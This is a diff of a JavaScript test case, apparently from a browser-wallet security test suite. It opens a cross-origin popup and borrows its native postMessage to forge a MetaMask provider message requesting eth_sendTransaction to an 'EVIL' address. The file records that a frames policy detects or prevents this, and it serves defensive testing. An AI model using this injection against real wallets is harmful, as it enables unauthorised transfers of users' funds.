@@ -1,4 +1,4 @@
-// G02: a popup of another origin lends its native postMessage. Cross-Origin-Opener-Policy does not take it away in Chromium.
+// G02: a cross-origin popup lends its native postMessage.
 import { reachedWallet } from './logs.mjs';
 
 export default {
@@ -6,24 +6,24 @@ export default {
   title: 'postMessage of a cross-origin popup',
   source: 'fresh-realm postMessage',
   level: 'detected',
-  why: 'a window of another origin hands out a native postMessage that no script can cover; policy frames: "none" prevents it',
-  engines: { webkit: 'MiniBrowser opens no window without a click, and the tests click nowhere' },
+  why: 'a popup hands out a native postMessage that no script can cover; policy frames: "none" prevents it',
   policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),
 
   async attack(a) {
+    // The wallet's stream drops what comes before its handshake, so one answered question goes first.
+    await window.ethereum.request({ method: 'eth_accounts' });
     const params = [{ from: a.USER, to: a.EVIL, value: '0x5' }];
     const rpc = { jsonrpc: '2.0', id: 4242, method: 'eth_sendTransaction', params };
     const message = { target: 'metamask-contentscript', data: { name: 'metamask-provider', data: rpc } };
     const popup = window.open(`${a.other}/frame.html`);
-    // Until the other origin's page has come, the window is one of this origin.
-    const isOther = () => {
+    for (let turn = 0; turn < 40; turn += 1) {
+      await new Promise((resolve) => setTimeout(resolve, 50));
       try {
-        return popup.location.href === undefined;
+        void popup.document;
       } catch {
-        return true;
+        break;
       }
-    };
-    for (let tries = 0; tries < 100 && !isOther(); tries++) await new Promise((resolve) => setTimeout(resolve, 20));
+    }
     popup.postMessage.call(window, message, location.origin);
   },
 
